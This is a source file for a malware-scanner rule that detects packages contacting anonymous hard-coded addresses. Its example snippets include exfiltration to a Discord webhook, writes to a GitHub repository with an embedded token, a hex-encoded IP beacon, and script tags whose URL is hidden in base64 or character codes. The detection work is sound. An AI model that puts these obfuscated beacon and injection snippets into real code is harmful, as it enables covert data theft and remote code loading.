import { beacons, elementsMade } from '../src/define/beacons.js';
import { defineRule, fixedAddressIn, oddTargetOf, openersOf, sinkSays, step, stepsOf } from '../src/define.js';
import type { Call, FileContext } from '../src/types.js';
import { hostOf, METADATA_SERVICE, oddAddress } from '../src/vocabulary/services.js';

/** Where a repository, a note or a thread is written to. */
const WRITES_TO =
  /\/\/api\.github\.com\/(?:gists|repos\/.{1,200}\/(?:contents|issues|git|releases))|^\/(?:gists|repos\/.{1,200}\/(?:contents|issues|git))/;
/** A token of whoever wrote the code, spelled out. */
const TOKEN = /\b(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_\w{30,})/;

export default defineRule({
  meta: {
    summary: 'Contacts an address nobody’s name stands behind',
    why: 'Request catchers, tunnels, paste sites, chat webhooks and bare IP addresses cost nothing and name nobody. A chat library posts to webhooks its user configures; an address that is fixed in the code is the author’s.',
    behaviour: 'capability',
    messages: {
      token: 'Writes to a repository or a note with a token that stands in its code',
      contacted: 'Contacts {address}, fixed in its code',
      hidden: 'Decodes the address that it contacts: {address}',
      script: 'Puts a script into the page whose address it decodes: {address}',
    },
    behaviours: { hidden: 'obfuscation', script: 'execution' },
    bits: { token: 11.5, contacted: 4.7, hidden: 6, script: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'a chat webhook is fixed in the code',
        code: `fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: 'hi' });`,
      },
      { title: 'so is an IP address', code: `require('http').get({ host: '203.0.113.7', path: '/a' });` },
      {
        title: 'a file goes into somebody’s repository',
        code: `fetch('https://api.github.com/repos/a/b/contents/' + Date.now(), { method: 'PUT', headers: { Authorization: 'token ghp_000000000000000000000000000000000000' }, body: JSON.stringify({ content }) });`,
      },
      {
        title: 'an address that is not to be read in the code comes out of hex digits',
        code: `const http = require('http');\nfunction tell(host, text) {\n  host = Buffer.from(host, 'hex').toString();\n  http.get({ host, path: '/' + text });\n}\ntell('3230332e302e3131332e39', 'up');`,
      },
      {
        title: 'a page is given a script from an address in base64',
        code: `if (typeof document !== 'undefined') {\n  const s = document.createElement('script');\n  s.async = true;\n  s.src = atob('aHR0cHM6Ly9hc3NldHMuaW52YWxpZC9hLmpz');\n  (document.head || document.body).appendChild(s);\n}`,
      },
      {
        title: 'one is put together from numbers',
        code: `const at = [104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 105, 110, 118, 97, 108, 105, 100, 47, 120, 46, 106, 115];\nconst tag = document.createElement('script');\ntag.setAttribute('src', String.fromCharCode(...at));\ndocument.body.append(tag);`,
      },
      {
        title: 'the address of a chat webhook stands there in base64',
        code: `const to = atob('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94');\nfetch(to, { method: 'POST', body: 'hi' });`,
      },
    ],
    passes: [
      {
        title: 'a loader of a script writes its address down, and decodes something else',
        code: `const s = document.createElement('script');\nconst key = atob('YWJj');\ns.src = 'https://maps.invalid/api.js?key=' + key;\ndocument.head.appendChild(s);`,
      },
      {
        title: 'what is sent to the own service was encoded',
        code: `fetch('https://api.invalid/v1', { method: 'POST', body: Buffer.from('7b7d', 'hex').toString() });`,
      },
      {
        title: 'an address of documentation is compared with, decoded, and never asked',
        code: `const sample = Buffer.from('3230332e302e3131332e39', 'hex').toString();\nexports.isSample = host => host === sample;`,
      },
      {
        title: 'the token of a repository is its user’s',
        code: `fetch('https://api.github.com/repos/a/b/contents/x', { method: 'PUT', headers: { Authorization: 'token ' + process.env.GITHUB_TOKEN }, body });`,
      },
      { title: 'the webhook is configured', code: `fetch(process.env.WEBHOOK, { method: 'POST' });` },
      {
        title: 'a detector of clouds asks their own service',
        code: `const http = require('http');\nclass Detector {\n  host = '100.100.100.200';\n  ask(path) { return new Promise(done => http.request({ host: this.host, path, timeout: 1000 }, done).end()); }\n}\nexports.detect = () => new Detector().ask('/latest/dynamic/instance-identity/document');`,
      },
      { title: 'an address is the local machine', code: `require('http').get('http://127.0.0.1:3000');` },
      { title: 'a version looks like an address', code: `fetch('https://cdn.invalid/lib/1.2.3.4/x.js');` },
    ],
  },
  file(context) {
    hiddenScript(context);
    for (const call of context.calls('network')) {
      const texts = call.args.flatMap(arg => context.textsWithin(arg));
      if (texts.some(text => WRITES_TO.test(text)) && texts.some(text => TOKEN.test(text))) {
        context.report({
          messageId: 'token',
          chain: [step('sink', sinkSays(call), context.file, call.node)],
        });
        return;
      }
      const address = oddTargetOf(context, call);
      // The cloud's own service has such an address, and a rule of its own.
      if (!address || isOfCloud(context, call)) continue;
      const decoded = texts.some(text => oddAddress(text) && !isWritten(context, text))
        ? call.args.flatMap(arg => context.labelsOf(arg)).find(({ kind }) => kind === 'decoded')
        : undefined;
      if (decoded)
        context.report({
          messageId: 'hidden',
          data: { address },
          chain: [...stepsOf(decoded), step('sink', sinkSays(call), context.file, call.node)],
        });
      context.report({
        messageId: 'contacted',
        data: { address },
        chain: [step('sink', sinkSays(call), context.file, call.node)],
      });
      return;
    }
  },
});

function isOfCloud(context: FileContext, call: Call): boolean {
  const args = [call, ...openersOf(context, call)].flatMap(one => one.args);
  return args.some(arg => context.textsWithin(arg).some(text => METADATA_SERVICE.test(text)));
}

/** Loaders of scripts write down where from, or are told. */
function hiddenScript(context: FileContext): void {
  if (elementsMade(context, 'script').length === 0) return;
  for (const { node, value, name } of beacons(context)) {
    const address = name === 'src' ? fixedAddressIn(context.textsOf(value)) : undefined;
    if (address === undefined || isWritten(context, address)) continue;
    const decoded = context.labelsOf(value).find(({ kind }) => kind === 'decoded' || kind === 'decrypted');
    if (!decoded) continue;
    context.report({
      messageId: 'script',
      data: { address },
      chain: [...stepsOf(decoded), step('sink', 'has the page load it as a script', context.file, node)],
    });
    return;
  }
}

/** True for an address that can be read in the package: what was decoded beside it is something else. */
function isWritten(context: FileContext, address: string): boolean {
  return context.isWritten(hostOf(address) ?? address);
}
